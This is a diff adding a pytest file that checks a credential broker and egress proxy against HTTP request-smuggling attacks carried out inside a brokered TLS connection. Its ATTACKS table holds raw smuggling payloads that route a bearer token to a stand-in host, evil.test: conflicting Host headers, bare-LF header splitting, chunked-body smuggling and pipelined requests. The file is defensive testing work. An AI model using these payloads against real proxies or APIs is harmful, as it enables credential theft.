@@ -1,0 +1,261 @@
+"""The broker attacked from inside its TLS: a hostile server opens a brokered connection to
+the secret's host (CONNECT, then TLS through the session CA it trusts) and writes raw
+HTTP/1.1 whose framing the broker and the host could read differently: a request target
+naming another host, header lines a lenient parser splits or folds, two ``Host`` or
+``Content-Length`` headers, a second request riding on the first, ``Expect:
+100-continue``. The host is a TLS server on loopback that records every byte it gets and
+reads them as a lenient server would (a bare LF ends a line, a folded line continues the
+one before, a request's host is its absolute target's, else each ``Host`` header's). The
+promise checked: the value reaches no request addressed to anything but the secret's host,
+and the server never reads it back. Each control turns the one protection off and shows
+the same bytes leak."""
+
+from __future__ import annotations
+
+import asyncio
+import re
+import ssl
+from collections.abc import Callable
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+
+from launcher.host.session_ca import SessionCA
+from launcher.plan.secrets_plan import Brokered, new_sentinel
+from launcher.servers.broker import Broker
+from launcher.servers.egress_proxy import EgressProxy, Refusal
+from policy.egress import EgressRules
+from tests.support.tls_upstream import make_authority
+
+VALUE = "s3cr3t-Value-for-the-api-7f3a9c1e5d2b"
+HOST = "api.test"
+
+
+class Upstream:
+    """A TLS host on loopback: every byte it got, and a scripted answer."""
+
+    def __init__(self, answer: Callable[[bytes], bytes]) -> None:
+        self.answer = answer
+        self.received: list[bytes] = []
+
+    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        data = b""
+        try:
+            data = await reader.readuntil(b"\r\n\r\n")
+            length = re.search(rb"(?im)^content-length:\s*(\d+)", data)
+            if length:
+                data += await reader.readexactly(int(length.group(1)))
+            with_more = await asyncio.wait_for(reader.read(65536), 0.3)
+            data += with_more
+        except (TimeoutError, asyncio.IncompleteReadError, ConnectionError):
+            pass
+        self.received.append(data)
+        try:
+            writer.write(self.answer(data))
+            await writer.drain()
+        finally:
+            writer.close()
+
+
+def addressed(raw: bytes) -> list[tuple[set[str], str]]:
+    """Each request in ``raw`` as a lenient server reads it: the hosts it could be routed
+    to, and its text."""
+    text = raw.decode("latin-1").replace("\r\n", "\n")
+    out: list[tuple[set[str], str]] = []
+    while text:
+        head, _, text = text.partition("\n\n")
+        length = re.search(r"(?im)^content-length:\s*(\d+)", head)  # the first one
+        if re.search(r"(?im)^transfer-encoding:\s*chunked", head):  # wins over a length
+            body, end, text = text.partition("0\n\n")
+            body += end
+        elif length:
+            body, text = text[: int(length.group(1))], text[int(length.group(1)) :]
+        else:
+            body = ""
+        request = head + "\n\n" + body
+        lines = head.split("\n")
+        target = lines[0].split(" ")[1] if lines[0].count(" ") >= 2 else ""
+        hosts: set[str] = set()
+        if "://" in target:
+            hosts.add((urlsplit(target).hostname or "").lower())
+        elif target and not target.startswith(("/", "*")):
+            hosts.add(target.rsplit(":", 1)[0].lower())  # authority form
+        for line in lines[1:]:
+            name, _, value = line.partition(":")
+            if name.strip().lower() == "host":
+                hosts.add(value.strip().rsplit(":", 1)[0].lower())
+        out.append((hosts, request))
+    return out
+
+
+def leaked_elsewhere(upstream: Upstream) -> list[str]:
+    """The requests the host got that hold the value and are addressed to another host."""
+    return [
+        request
+        for raw in upstream.received
+        for hosts, request in addressed(raw)
+        if VALUE in request and hosts - {HOST}
+    ]
+
+
+def reflecting(raw: bytes) -> bytes:
+    """An answer that gives back what the request said (as some APIs do, in a header)."""
+    said = re.search(rb"(?im)^x-echo:\s*(\S+)", raw)
+    echo = said.group(1) if said else b"-"
+    return b"HTTP/1.1 200 OK\r\nX-You-Sent: " + echo + b"\r\nContent-Length: 2\r\n\r\nok"
+
+
+def continuing(raw: bytes) -> bytes:
+    """``100 Continue`` first (as a host does for ``Expect: 100-continue``), then the answer."""
+    return b"HTTP/1.1 100 Continue\r\n\r\n" + reflecting(raw)
+
+
+def exchange(
+    tmp_path: Path,
+    request: bytes,
+    answer: Callable[[bytes], bytes] = reflecting,
+    brokered: bool = True,
+) -> tuple[bytes, Upstream, list[Refusal]]:
+    """``request`` written raw inside a brokered connection to the secret's host: what the
+    server read back, what the host got, the proxy's refusals. Not ``brokered``: the proxy
+    is a plain tunnel."""
+    ca_file, chain = make_authority(tmp_path, [HOST])
+    upstream = Upstream(answer)
+    refusals: list[Refusal] = []
+    secret = Brokered("API_TOKEN", SENTINEL, VALUE, ((HOST, None),), True)
+
+    async def scenario() -> bytes:
+        host_tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+        host_tls.load_cert_chain(chain)
+        listening = await asyncio.start_server(upstream.handle, "127.0.0.1", 0, ssl=host_tls)
+        port = listening.sockets[0].getsockname()[1]
+        rules = EgressRules.from_config([f"{HOST}:{port}"], [], {HOST: "127.0.0.1"})
+        session_ca = SessionCA("probe")
+        broker = Broker([secret], session_ca)
+        broker.upstream.load_verify_locations(ca_file)  # the host's CA, pinned
+        sock = str(tmp_path / "egress.sock")
+        proxy = EgressProxy("probe", rules, sock, refusals.append, broker if brokered else None)
+        await proxy.start()
+        try:
+            reader, writer = await asyncio.open_unix_connection(sock)
+            writer.write(f"CONNECT {HOST}:{port} HTTP/1.1\r\n\r\n".encode())
+            assert b" 200 " in await reader.readuntil(b"\r\n\r\n")
+            trusted = ssl.create_default_context(cadata=session_ca.pem().decode())
+            if not brokered:
+                trusted = ssl.create_default_context(cafile=ca_file)
+            await writer.start_tls(trusted, server_hostname=HOST)
+            writer.write(
+                request if brokered else request.replace(SENTINEL.encode(), VALUE.encode())
+            )
+            await writer.drain()
+            got = await asyncio.wait_for(_read_all(reader), 10)
+            writer.close()
+            return got
+        finally:
+            await proxy.stop()
+            listening.close()
+            await listening.wait_closed()
+
+    return asyncio.run(scenario()), upstream, refusals
+
+
+async def _read_all(reader: asyncio.StreamReader) -> bytes:
+    data = b""
+    try:
+        while chunk := await reader.read(65536):
+            data += chunk
+    except (ConnectionError, ssl.SSLError):
+        pass
+    return data
+
+
+SENTINEL = new_sentinel()
+AUTH = f"Authorization: Bearer {SENTINEL}"
+
+
+# Each attack: what the hostile server writes inside the brokered TLS, the answer its host
+# gives, and why the proxy refuses it (None: served, harmlessly).
+ATTACKS: dict[str, tuple[str, Callable[[bytes], bytes], str | None]] = {
+    "absolute-form target naming another host": (
+        f"GET https://evil.test/steal HTTP/1.1\r\nHost: {HOST}\r\n{AUTH}\r\n\r\n",
+        reflecting,
+        "target is a path",
+    ),
+    "authority-form target naming another host": (
+        f"CONNECT evil.test:443 HTTP/1.1\r\nHost: {HOST}\r\n{AUTH}\r\n\r\n",
+        reflecting,
+        "target is a path",
+    ),
+    "a second Host header after a bare LF": (
+        f"GET / HTTP/1.1\r\nHost: {HOST}\r\nX-A: a\nHost: evil.test\r\n{AUTH}\r\n\r\n",
+        reflecting,
+        "malformed header line",
+    ),
+    "Transfer-Encoding after a bare LF smuggles a request in the body": (
+        f"POST / HTTP/1.1\r\nHost: {HOST}\r\nX-A: a\nTransfer-Encoding: chunked\r\n"
+        "Content-Length: LEN\r\n\r\n",
+        reflecting,
+        "malformed header line",
+    ),
+    "Expect: 100-continue, then the value reflected in the final answer's head": (
+        f"POST / HTTP/1.1\r\nHost: {HOST}\r\nExpect: 100-continue\r\nX-Echo: {SENTINEL}\r\n"
+        "Content-Length: 2\r\n\r\nok",
+        continuing,
+        None,
+    ),
+    "a pipelined second request to another host": (
+        f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n"
+        f"GET / HTTP/1.1\r\nHost: evil.test\r\n{AUTH}\r\n\r\n",
+        reflecting,
+        None,
+    ),
+    "a body longer than its Content-Length": (
+        f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 2\r\n\r\nokGET / HTTP/1.1\r\n"
+        f"Host: evil.test\r\n{AUTH}\r\n\r\n",
+        reflecting,
+        None,
+    ),
+    "the value reflected in the answer's head": (
+        f"GET / HTTP/1.1\r\nHost: {HOST}\r\nX-Echo: {SENTINEL}\r\n\r\n",
+        reflecting,
+        None,
+    ),
+}
+SMUGGLED = f"0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n{AUTH}\r\n\r\n"
+
+
+def _request(name: str, held: str = SENTINEL) -> bytes:
+    """The attack's bytes, written with what the server holds (its sentinel, or the value)."""
+    text, smuggled = ATTACKS[name][0].replace(SENTINEL, held), SMUGGLED.replace(SENTINEL, held)
+    if "LEN" in text:
+        text = text.replace("LEN", str(len(smuggled))) + smuggled
+    return text.encode("latin-1")
+
+
+@pytest.mark.parametrize("name", list(ATTACKS))
+def test_the_value_reaches_only_the_secrets_host_and_never_comes_back(
+    tmp_path: Path, name: str
+) -> None:
+    _, answer, refused = ATTACKS[name]
+    seen, upstream, refusals = exchange(tmp_path, _request(name), answer)
+    assert not leaked_elsewhere(upstream)
+    assert VALUE.encode() not in seen
+    if refused is None:
+        assert upstream.received and not refusals  # served, to the secret's host
+    else:
+        assert [r.reason for r in refusals if refused in r.reason], refusals
+        assert not upstream.received[0]  # the host got nothing (its TLS opened, no request)
+        assert seen.startswith(b"HTTP/1.1 400 ")
+    assert not [r for r in refusals if VALUE in r.reason]
+
+
+@pytest.mark.parametrize("name", list(ATTACKS))
+def test_control_the_same_bytes_leak_when_the_server_holds_the_value(
+    tmp_path: Path, name: str
+) -> None:
+    # Brokering off: the server holds the value and writes it where it wrote its sentinel,
+    # through a plain tunnel. What the host makes of those bytes is what the broker prevents.
+    request = _request(name, held=VALUE)
+    seen, upstream, _ = exchange(tmp_path, request, ATTACKS[name][1], brokered=False)
+    assert leaked_elsewhere(upstream) or VALUE.encode() in seen
